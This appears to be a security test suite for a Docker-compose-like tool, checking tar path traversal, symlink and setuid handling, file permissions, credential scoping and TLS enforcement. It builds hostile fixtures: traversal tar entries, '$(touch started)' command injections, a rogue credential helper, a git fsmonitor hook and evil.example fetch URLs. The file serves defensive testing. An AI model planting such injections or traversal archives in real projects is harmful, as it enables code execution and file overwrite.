import { ChildProcess } from "node:child_process";
import { chown, lstat, mkdir, readdir, readFile, readlink, stat, symlink } from "node:fs/promises";
import { createServer, type AddressInfo, Socket } from "node:net";
import { join, posix } from "node:path";
import { pipeline } from "node:stream/promises";
import { buffer } from "node:stream/consumers";
import { extract, type Header, pack } from "tar-stream";
import { afterEach, describe, expect, test } from "vitest";
import { connectEngine } from "../../src/engine/connect.ts";
import { syncFiles } from "../../src/execute/sync.ts";
import { type CommandLine, commandLine, IDLE, projectFile } from "../support/command-line.ts";
import { EngineTap } from "../support/engine-tap.ts";

/** Every file, directory and link below a directory with what it is. */
async function tree(root: string): Promise<readonly string[]> {
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  const lines = entries.map(async (entry) => {
    const path = join(entry.parentPath, entry.name);
    const { mode, mtimeMs, uid } = await lstat(path);
    const content = entry.isFile() ? await readFile(path, "utf8") : entry.isSymbolicLink() ? await readlink(path) : "";
    return `${path} ${mode.toString(8)} ${mtimeMs} ${uid} ${content}`;
  });
  return (await Promise.all(lines)).sort();
}

/** A tar of entries, those without a type being files. */
async function tarOf(
  entries: readonly (Partial<Header> & { readonly name: string; readonly content?: string })[],
): Promise<Buffer> {
  const tar = pack();
  for (const { content, ...header } of entries) tar.entry({ type: "file", ...header }, content ?? "");
  tar.finalize();
  return buffer(tar as unknown as AsyncIterable<Uint8Array>);
}

describe("what dock puts into containers", () => {
  commandLine("S11 a copy out of a container is written nowhere but where it was to go", async ({ line }) => {
    await line.write({ "dock.yaml": projectFile({ services: { web: IDLE } }), "theirs/kept": "kept" });
    await line.dock(["up", "-d"]);
    const outside = join(line.directory, "theirs");
    const attacks: Readonly<
      Record<string, readonly (Partial<Header> & { readonly name: string; readonly content?: string })[]>
    > = {
      "a step up": [{ name: "data/../../theirs/kept", content: "evil" }],
      "an absolute name": [{ name: join(outside, "kept"), content: "evil" }],
      "a link, then a file through it": [
        { name: "data/", type: "directory" },
        { name: "data/link", type: "symlink", linkname: outside },
        { name: "data/link/kept", content: "evil" },
      ],
      "a link, then a file in its place": [
        { name: "data/", type: "directory" },
        { name: "data/kept", type: "symlink", linkname: join(outside, "kept") },
        { name: "data/kept", content: "evil" },
      ],
      "a hard link out": [
        { name: "data/", type: "directory" },
        { name: "data/hard", type: "link", linkname: join(outside, "kept") },
        { name: "data/hard", content: "evil" },
      ],
      "a device and a file with its owner's rights": [
        { name: "data/", type: "directory" },
        { name: "data/device", type: "character-device", devmajor: 1, devminor: 3 },
        { name: "data/rights", content: "x", mode: 0o4755 },
      ],
    };
    for (const [what, entries] of Object.entries(attacks)) {
      const tar = await tarOf(entries);
      const about = { name: "data", mode: 0x80000000 + 0o755, size: 0, mtime: "2024-01-01T00:00:00Z", linkTarget: "" };
      const headers = {
        "X-Docker-Container-Path-Stat": Buffer.from(JSON.stringify(about)).toString("base64"),
        "Content-Type": "application/x-tar",
      };
      await using tap = await EngineTap.start(line.engine.socketPath, ({ path }) =>
        path.endsWith("/archive") ? { status: 200, body: tar, headers } : undefined,
      );
      const target = `out-${what.replaceAll(/\W/g, "-")}`;
      const { stderr } = await line.run(["cp", "web:/data", target], { host: tap.host });
      expect(stderr, what).not.toContain("internal error");
      expect(await tree(outside), what).toEqual([expect.stringMatching(/kept$/)]);
      const made = await readdir(join(line.directory, target)).catch((): string[] => []);
      expect(made, what).not.toContain("device");
      if (what.includes("rights")) expect(made).toEqual(["rights"]);
      if (made.includes("rights")) expect((await stat(join(line.directory, target, "rights"))).mode & 0o6000).toBe(0);
    }
    expect((await readdir(line.root)).toSorted((a, b) => (a < b ? -1 : 1))).toEqual(["cache", "home", "shop"]);
  });

  commandLine(
    "S12 what is synced stays below its place: no steps up, links as links, and directories that can't be links there",
    async ({ line }) => {
      await line.write({
        "dock.yaml": projectFile({ services: { web: IDLE } }),
        "src/a.js": "a",
        "src/deep/b.js": "b",
      });
      await symlink("/etc/passwd", join(line.directory, "src/link"));
      await line.dock(["up", "-d"]);
      const engine = connectEngine({ env: { DOCKER_HOST: line.engine.host } });
      const copies = ["a.js", "deep/b.js", "link"].map((path) => ({
        source: join(line.directory, "src", path),
        target: posix.join("/app/src", path),
        root: "/app/src",
      }));
      await syncFiles(
        engine,
        { container: "shop-web-1", sync: { deletes: [], copies }, owner: { uid: 1000, gid: 1000 } },
        AbortSignal.timeout(5000),
      );
      await engine.close();
      const entries: string[] = [];
      const reader = extract();
      reader.on("entry", ({ name, type, linkname }, stream, next) => {
        entries.push(`${type} ${name} ${linkname ?? ""}`.trim());
        stream.resume().once("end", next);
      });
      await pipeline([line.engine.container("shop-web-1").archives[0]?.bytes ?? Buffer.alloc(0)], reader);
      expect(entries).toEqual([
        "file app/src/a.js",
        "directory app/src/deep",
        "file app/src/deep/b.js",
        "symlink app/src/link /etc/passwd",
      ]);
    },
  );
});

describe("what dock leaves on this machine", () => {
  const mask = process.umask();
  afterEach(() => void process.umask(mask));

  commandLine("S16 is readable by its user alone, whatever the umask says", async ({ line }) => {
    process.umask(0);
    await line.write({
      "dock.yaml": projectFile({ images: { app: "./app" }, services: { web: IDLE } }),
      "app/Dockerfile": "FROM busybox\nCOPY . .\n",
    });
    await line.dock(["up", "-d"]);
    await line.dock(["plan", "-o", "saved.json"]);
    await line.run(["build", "app"]);
    const cached = await readdir(line.cache, { recursive: true, withFileTypes: true });
    expect(cached.some((entry) => entry.isFile())).toBe(true);
    for (const entry of cached) {
      const { mode } = await stat(join(entry.parentPath, entry.name));
      expect(mode & 0o777, entry.name).toBe(entry.isDirectory() ? 0o700 : 0o600);
    }
    expect((await stat(join(line.directory, "saved.json"))).mode & 0o777).toBe(0o600);
  });

  commandLine(
    "S16 is not in the project's directory, but for mount points, which belong to whom the source belongs",
    async ({ line }) => {
      const owner = process.getuid?.() === 0 ? 1234 : (process.getuid?.() ?? 0);
      await mkdir(join(line.directory, "src"));
      await chown(join(line.directory, "src"), owner, process.getgid?.() ?? 0);
      await line.write({
        "dock.yaml": projectFile({
          services: { web: { ...IDLE, dev: { mounts: ["./src:/app", "/app/node_modules"] } } },
        }),
      });
      const before = await tree(line.directory);
      await line.dock(["up", "-d", "--no-dev"]);
      await line.dock(["down", "-v"]);
      expect(await tree(line.directory)).toEqual(before);
      await line.dock(["up", "-d"]);
      expect((await stat(join(line.directory, "src/node_modules"))).uid).toBe(owner);
    },
  );
});

/** Watches what this process reaches out to while `work` runs: addresses it connects to, and programs it starts. */
async function reached(work: () => Promise<unknown>): Promise<readonly string[]> {
  const seen: string[] = [];
  // oxlint-disable-next-line typescript/unbound-method
  const { connect } = Socket.prototype;
  const children = ChildProcess.prototype as unknown as { spawn: (options: { file: string }) => unknown };
  const { spawn } = children;
  Socket.prototype.connect = function (this: Socket, ...args: Parameters<typeof connect>) {
    seen.push(`connect ${JSON.stringify(args[0])}`);
    return connect.apply(this, args);
  } as typeof connect;
  children.spawn = function (options) {
    seen.push(`start ${options.file}`);
    return spawn.call(this, options);
  };
  try {
    await work();
  } finally {
    Socket.prototype.connect = connect;
    children.spawn = spawn;
  }
  return seen;
}

/** A project that would have much done by whoever trusts it. */
async function hostile(line: CommandLine): Promise<void> {
  const docker = { credsStore: "evil", credHelpers: { "evil.example": "evil" }, auths: {} };
  await line.write({
    "../home/docker/config.json": JSON.stringify(docker),
    "../bin/docker-credential-evil": "#!/bin/sh\ntouch ../started\n",
    ".env": "HOOK=$(touch started)\n",
    "dock.yaml": projectFile({
      vars: { A: "$$(id)" },
      images: {
        app: { context: "./app", args: { URL: "http://evil.example/x" } },
        far: { context: "https://evil.example/repository.git#main" },
      },
      services: {
        app: { image: "app", command: "sh -c '$$(touch started)'", environment: { HOOK: "${HOOK}" } },
        far: { image: "far" },
        pulled: { image: "evil.example/image:latest", pull: "always" },
      },
    }),
    "app/Dockerfile":
      "# syntax=evil.example/frontend\nFROM evil.example/base\nADD http://evil.example/file /\nRUN touch /started\nCOPY . /\n",
    "app/package.json": JSON.stringify({ scripts: { preinstall: "touch started" } }),
    "app/.git/config": "[core]\n\tfsmonitor = touch started\n",
  });
  await symlink("/", join(line.directory, "app/root"));
}

describe("a project of somebody else's", () => {
  commandLine(
    "S17 is looked at without a call to anybody but the engine, without a change and without starting anything",
    async ({ line }) => {
      await hostile(line);
      const env = {
        DOCKER_CONFIG: join(line.home, "docker"),
        PATH: `${join(line.root, "bin")}:${process.env["PATH"]}`,
      };
      const before = await tree(line.directory);
      const seen = await reached(async () => {
        for (const args of [
          ["validate"],
          ["config"],
          ["plan"],
          ["plan", "--json"],
          ["ps"],
          ["why", "app"],
          ["context", "app"],
          ["logs"],
        ])
          expect((await line.run(args, { env })).stderr).not.toContain("internal error");
      });
      expect(new Set(seen.filter((what) => !what.includes(line.engine.socketPath)))).toEqual(new Set());
      expect(seen.length).toBeGreaterThan(0);
      expect(line.engine.mutations).toEqual([]);
      expect(await tree(line.directory)).toEqual(before);
      expect(await readdir(line.root)).not.toContain("started");
    },
  );
});

describe("what dock is made of", () => {
  const read = async (file: string): Promise<unknown> =>
    JSON.parse(await readFile(new URL(`../../${file}`, import.meta.url), "utf8")) as unknown;

  test("S19 installing it runs nobody's scripts and brings nobody's packages", async () => {
    const own = (await read("package.json")) as Record<string, unknown> & { scripts: Record<string, string> };
    for (const kind of ["dependencies", "optionalDependencies", "peerDependencies", "bundledDependencies"])
      expect(own[kind] ?? {}, kind).toEqual({});
    expect(Object.keys(own.scripts).filter((name) => /^(pre|post)?(install|prepare|publish)/.test(name))).toEqual([]);
  });

  test("S19 what it is built with stays within a budget, is pinned by content and needs no scripts of its own", async () => {
    const { lockfileVersion, packages } = (await read("package-lock.json")) as {
      lockfileVersion: number;
      packages: Record<string, { integrity?: string; optional?: boolean; hasInstallScript?: boolean }>;
    };
    const all = Object.entries(packages).filter(([at]) => at !== "");
    expect(lockfileVersion).toBe(3);
    const needed = all.filter(([, { optional }]) => !optional);
    expect(needed.filter(([, { integrity }]) => integrity?.startsWith("sha512-") !== true).map(([at]) => at)).toEqual(
      [],
    );
    expect(needed.length).toBeLessThanOrEqual(220);
    // Speed-ups of dockerode's that dock does not use: `npm ci --ignore-scripts` is how it is set up.
    expect(all.filter(([, { hasInstallScript }]) => hasInstallScript).map(([at]) => at.split("/").at(-1))).toEqual([
      "cpu-features",
      "protobufjs",
      "ssh2",
    ]);
    expect(await readFile(new URL("../../scripts/setup/dependencies.mjs", import.meta.url), "utf8")).toContain(
      '"--ignore-scripts"',
    );
  });
});

describe("credentials", () => {
  commandLine("S20 go to the registry that they are for and to no other", async ({ line }) => {
    const auth = (user: string): object => ({ auth: Buffer.from(`${user}:pw-${user}`).toString("base64") });
    const auths = {
      "https://index.docker.io/v1/": auth("hub"),
      "one.example": auth("one"),
      "two.example:5000": auth("two"),
    };
    await line.write({
      "../home/docker/config.json": JSON.stringify({ auths }),
      "dock.yaml": projectFile({
        services: Object.fromEntries(
          [
            "hubimage",
            "one.example/app",
            "two.example:5000/app",
            "three.example/app",
            "one.example.evil.example/app",
          ].map((image, index) => [`s${index}`, { image }]),
        ),
      }),
    });
    const sent = new Map<string, string>();
    await using tap = await EngineTap.start(line.engine.socketPath, ({ path, query, headers }) => {
      const header = headers["x-registry-auth"];
      if (path === "/images/create") {
        const { username = "" } = JSON.parse(Buffer.from(String(header ?? "e30"), "base64url").toString()) as {
          username?: string;
        };
        sent.set(new URLSearchParams(query).get("fromImage") ?? "", username);
      } else expect(header, path).toBeUndefined();
      return undefined;
    });
    await line.dock(["up", "-d"], { host: tap.host, env: { DOCKER_CONFIG: join(line.home, "docker") }, code: 1 });
    expect(Object.fromEntries(sent)).toEqual({
      hubimage: "hub",
      "one.example/app": "one",
      "two.example:5000/app": "two",
      "three.example/app": "",
      "one.example.evil.example/app": "",
    });
  });

  commandLine(
    "S20 whoever asks for TLS, however he spells it, never speaks to an engine in the clear",
    async ({ line }) => {
      await line.write({ "dock.yaml": projectFile({ services: { web: IDLE } }) });
      let heard = "";
      const server = createServer((socket) => {
        socket.on("data", (data) => {
          heard += data.toString("latin1");
          socket.destroy();
        });
        socket.on("error", () => {});
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const { port } = server.address() as AddressInfo;
      try {
        for (const value of ["1", "0", "true", "false", "ture", "no"]) {
          const run = await line.run(["ps"], { host: `tcp://127.0.0.1:${port}`, env: { DOCKER_TLS_VERIFY: value } });
          expect(run.code, value).not.toBe(0);
        }
        expect((await line.run(["ps"], { host: `https://127.0.0.1:${port}` })).code).not.toBe(0);
        expect(heard).not.toMatch(/HTTP\/1/);
      } finally {
        await new Promise((resolve) => server.close(resolve));
      }
    },
  );
});
